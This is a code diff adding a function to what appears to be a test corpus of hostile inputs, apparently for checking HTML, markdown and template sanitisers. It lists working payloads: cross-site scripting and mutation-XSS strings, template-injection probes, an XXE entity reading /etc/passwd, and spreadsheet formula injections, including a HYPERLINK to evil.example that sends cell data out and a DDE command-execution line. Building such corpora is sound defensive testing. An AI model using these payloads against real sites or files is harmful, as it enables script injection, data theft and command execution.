@@ -408,8 +408,55 @@ def _letters() -> list[str]:
     ]
 
 
+def _newer() -> list[str]:
+    """Features of browsers that came late, parsers that disagree, and words that a later step may take for its own."""
+    shapes = (
+        "<dialog open oncancel={script}>x</dialog>",
+        "<button popovertarget=p>x</button><div popover id=p onbeforetoggle={script}>y</div>",
+        "<div onscrollsnapchange={script} style=overflow:auto>x",
+        "<input type=hidden oncontentvisibilityautostatechange={script} style=content-visibility:auto>",
+        "<template shadowrootmode=open><script>{script}</script></template>",
+        "<div><template shadowrootmode=closed><img src=x onerror={script}></template></div>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={script}&gt;'>",
+        "<svg></p><style><a id='</style><img src=x onerror={script}>'>",
+        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={script} src>'>",
+        "<select><template><style><!--</style><img src=x onerror={script}>--></style></template></select>",
+        "<noscript><p title='</noscript><img src=x onerror={script}>'>",
+        "<xmp><p title='</xmp><svg/onload={script}>'>",
+        "<iframe srcdoc='&lt;img src=x onerror=parent.{script}&gt;'>",
+        "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>{script}",
+        "<link rel=modulepreload href='data:text/javascript,{script}'>",
+        '<script type=importmap>{{"imports":{{"x":"data:text/javascript,{script}"}}}}</script>',
+        '<script type=speculationrules>{{"prerender":[{{"urls":["javascript:{script}"]}}]}}</script>',
+        "<base href='javascript:{script}//'><a href=x>x</a>",
+        "<a href='jav&#x09;ascript&colon;{script}'>x</a>",
+        "<a href='&#14;javascript:{script}'>x</a>",
+        "<a ping='javascript:{script}' href=#>x</a>",
+        "[x](<javascript:{script}>)",
+        "[x]: javascript:{script}\n[x]",
+        "![x](data:image/svg+xml,%3Csvg%20onload={script}%3E)",
+        "<javascript:{script}>",
+        "`` ` <img src=x onerror={script}> ``",
+        "$$\\href{{javascript:{script}}}{{x}}$$",
+        ":::{{raw}} html\n<img src=x onerror={script}>\n:::",
+        "{{{{ range(10**9) }}}}{script}",
+        "{{% for x in cycler.__init__.__globals__ %}}{script}{{% endfor %}}",
+        "]]><img src=x onerror={script}><![CDATA[",
+        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>{script}",
+        "</data><img src=x onerror={script}><data>",
+        "</text></svg><img src=x onerror={script}><svg><text>",
+        "</td></tr></table><img src=x onerror={script}>",
+        "\\u003cimg src=x onerror={script}\\u003e",
+        "&amp;lt;img src=x onerror={script}&amp;gt;",
+        "${{{script}}}",
+        '=HYPERLINK("https://evil.example/?"&A1)&{script}',
+        "@SUM(1+1)*cmd|' /C calc'!A0 {script}",
+    )
+    return [shape.format(script=_script()) for shape in shapes]
+
+
 HOSTILE = tuple(dict.fromkeys(
-    [*_elements(), *_blocks(), *_templates(), *_markdown(), *_spreadsheets(), *_records(), *_letters()]
+    [*_elements(), *_blocks(), *_templates(), *_markdown(), *_spreadsheets(), *_records(), *_letters(), *_newer()]
 ))  # fmt: skip
 """At least 300 strings, each once. None holds a character that no page can hold."""
 
